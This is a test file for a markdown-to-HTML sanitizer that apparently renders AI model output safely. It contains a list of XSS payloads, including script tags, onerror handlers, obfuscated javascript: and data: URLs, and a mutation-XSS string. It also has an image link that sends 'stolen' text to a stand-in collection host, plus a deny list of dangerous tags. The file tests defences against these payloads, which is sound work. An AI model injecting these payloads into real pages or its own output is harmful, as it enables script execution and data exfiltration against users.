import fc from 'fast-check';
import { toSafeHtml } from '../../../blocks/_shared/markdown/safe-html';

const bodyOf = ( html: string ) => Object.assign( document.createElement( 'div' ), { innerHTML: html } );
const FORBIDDEN = 'script, style, iframe, object, embed, form, input, img, svg, math, video, audio, link, meta, base';

function expectHarmless( html: string ) {
	const body = bodyOf( html );
	expect( body.querySelector( FORBIDDEN ) ).toBeNull();
	expect( html ).not.toContain( '<!--' );
	for ( const element of body.querySelectorAll( '*' ) ) {
		for ( const { name, value } of element.attributes ) {
			expect( [ 'href', 'title', 'align', 'start', 'reversed', 'colspan', 'rowspan', 'scope' ] ).toContain(
				name
			);
			expect( name === 'href' && /^\s*(javascript|data|vbscript)/i.test( value ) ).toBe( false );
		}
	}
}

const HOSTILE = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'![a picture](https://collect.example/?stolen=text)',
	'[click](javascript:alert(1))',
	'[click](JaVaScRiPt&#58;alert(1))',
	'[click](data:text/html,<script>alert(1)</script>)',
	'<a href="https://example.com" onclick="alert(1)" style="position:fixed">a</a>',
	'<svg><script>alert(1)</script></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->',
	'<iframe src="https://example.com"></iframe>',
	'<form action="https://example.com"><input name=a></form>',
	'<p><a href="//evil.example/x">x</a></p>',
	'```html\n<script>alert(1)</script>\n```',
];

describe( 'Markdown of a model as HTML', () => {
	it.each( HOSTILE )( 'is harmless: %s', ( markdown ) => expectHarmless( toSafeHtml( markdown ) ) );

	it( 'is harmless, however hostile pieces are combined', () => {
		const piece = fc.oneof(
			fc.constantFrom( ...HOSTILE, '<', '>', '"', '`', '\n', '](', '<!--', '-->' ),
			fc.string()
		);
		fc.assert(
			fc.property( fc.array( piece, { maxLength: 12 } ), ( pieces ) =>
				expectHarmless( toSafeHtml( pieces.join( '' ) ) )
			),
			{ numRuns: 500 }
		);
	} );

	it( 'keeps formatting, code as text, and links to the web', () => {
		const body = bodyOf(
			toSafeHtml(
				'## Title\n\nSome **bold** [link](https://example.com "t").\n\n3. third\n\n`<script>`\n\n| a |\n| -: |\n| 1 |'
			)
		);
		expect( body.querySelector( 'h2' ) ).toHaveTextContent( 'Title' );
		expect( body.querySelector( 'strong' ) ).toHaveTextContent( 'bold' );
		expect( body.querySelector( 'a' ) ).toHaveAttribute( 'href', 'https://example.com' );
		expect( body.querySelector( 'ol' ) ).toHaveAttribute( 'start', '3' );
		expect( body.querySelector( 'code' ) ).toHaveTextContent( '<script>' );
		expect( body.querySelector( 'td' ) ).toHaveTextContent( '1' );
		expect( body.querySelector( 'td' ) ).toHaveAttribute( 'align', 'right' );
	} );

	it( 'turns an image into a link, so that nothing is fetched without a click', () => {
		const body = bodyOf( toSafeHtml( '![A cat](https://example.com/cat.png)' ) );
		expect( body.querySelector( 'a' ) ).toHaveAttribute( 'href', 'https://example.com/cat.png' );
		expect( body ).toHaveTextContent( 'A cat' );
	} );
} );
